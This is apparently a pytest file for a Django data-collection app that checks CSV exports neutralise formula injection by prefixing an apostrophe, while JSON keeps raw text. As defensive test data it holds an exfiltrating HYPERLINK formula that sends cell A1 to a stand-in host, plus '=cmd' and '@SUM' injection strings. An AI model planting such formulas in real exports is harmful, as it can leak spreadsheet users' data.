"""No CSV file runs what a worker wrote; numbers stay numbers, and files that no spreadsheet opens stay as typed."""

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command

from collector.analysis.tables import Table
from collector.lib.spreadsheets import Cell, csv_line
from hits import ledger, statement
from hits.models import EntryKind, LedgerEntry
from tests import factories
from tests.exports.test_export_summaries import wrote
from tests.quality import made
from tests.summaries import scene

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"and all of it is only one click away")'


def cells_of(line: str) -> list[str]:
    (cells,) = csv.reader(io.StringIO(line, newline=""))
    return cells


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(begins: str) -> None:
    text = f"{begins}1+1"
    assert cells_of(csv_line([text, f"a {text}", ""])) == [f"'{text}", f"a {text}", ""]


@pytest.mark.parametrize(
    ("cell", "written"), [(-3, "-3"), (-0.5, "-0.5"), (Decimal("-2.40"), "-2.40"), (None, ""), ("'tis", "'tis")]
)
def test_numbers_and_other_texts_stay_as_they_are(cell: Cell, written: str) -> None:
    assert cells_of(csv_line([cell])) == [written]


@pytest.mark.django_db
def test_every_file_that_a_spreadsheet_opens_is_written_so(tmp_path: Path) -> None:
    study = scene.study(videos=1, slug="sums")
    wrote(study, FORMULA)
    rounds = [(f"=cmd {FORMULA}?", f"@SUM {FORMULA}")] * 2
    made.dialog(factories.study(slug="talk"), rounds, summary=f"+{FORMULA}")
    worker = factories.worker(external_id="-2+3")
    ledger.plan(worker.pk, study.pk, EntryKind.REWARD, Decimal("2.40"), "@for the dialog", "reason")
    owed = io.StringIO(newline="")
    statement.write(LedgerEntry.objects.all(), owed)
    (tmp_path / "owed.csv").write_text(owed.getvalue(), newline="")
    call_command("export_summaries", "--out", str(tmp_path / "summaries.csv"))
    call_command("quality_flags", "--study", "talk", "--out", str(tmp_path / "flags.csv"))
    statistics = Table("openings", ["collection", "first words"], [["talk", "=cmd"], ["talk", -0.5]])
    (tmp_path / "openings.csv").write_text("".join(statistics.as_csv()), newline="")
    for path in tmp_path.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            cells = {cell for row in csv.reader(file) for cell in row}
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "-", "\t")) and cell != "-0.5"], path
    assert f"'{FORMULA}" in (tmp_path / "summaries.csv").read_text().replace('""', '"')
    assert {"'-2+3", "'@for the dialog", "2.40"} <= set(cells_of(owed.getvalue().splitlines()[1]))


@pytest.mark.django_db
def test_a_dataset_keeps_what_was_typed(tmp_path: Path) -> None:
    wrote(scene.study(videos=1, slug="sums"), FORMULA)
    call_command("export_summaries", "--out", str(tmp_path / "s.json"))
    (video,) = json.loads((tmp_path / "s.json").read_text())["videos"]
    assert video["summaries"][0]["summary"] == FORMULA
